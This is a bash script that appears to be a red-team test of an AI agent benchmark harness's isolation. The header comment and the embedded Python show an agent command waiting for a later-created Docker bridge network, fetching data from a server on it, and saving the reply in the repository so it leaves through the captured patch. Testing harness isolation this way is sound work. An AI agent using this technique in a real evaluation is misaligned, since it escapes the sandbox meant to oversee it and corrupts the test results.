#!/bin/bash
# Attack pass round 5, local backend: one command of a public agent phase waits until the host has
# a bridge network it did not have when the command started (Docker makes `lancebench-public` at a
# docker job's first public trial), then fetches what a server on that bridge serves, and keeps
# the answer in the repository (it leaves in the captured patch). The instruction's `SIGNAL_URL=`
# (a server on the host's other address, reachable from a public phase) answers `go:PORT` once the
# bridge is there, PORT that of the server on it; `BRIDGE_HOST=` is its address.
signal="$(grep -E '^SIGNAL_URL=' "$LANCEBENCH_INSTRUCTION" | head -1 | cut -d= -f2-)"
bridge="$(grep -E '^BRIDGE_HOST=' "$LANCEBENCH_INSTRUCTION" | head -1 | cut -d= -f2-)"
python3 - "$signal" "$bridge" > bridge.txt 2>&1 <<'PY'
import sys, time, urllib.request
signal, bridge = sys.argv[1], sys.argv[2]
answer = urllib.request.urlopen(signal, timeout=30).read().decode()  # the test makes the bridge once asked
time.sleep(1.5)  # a few looks of the harness's watch later
try:
    print(urllib.request.urlopen(f"http://{bridge}:{answer.split(':')[1]}/", timeout=5).read().decode())
except OSError as exc:
    print(exc)
PY
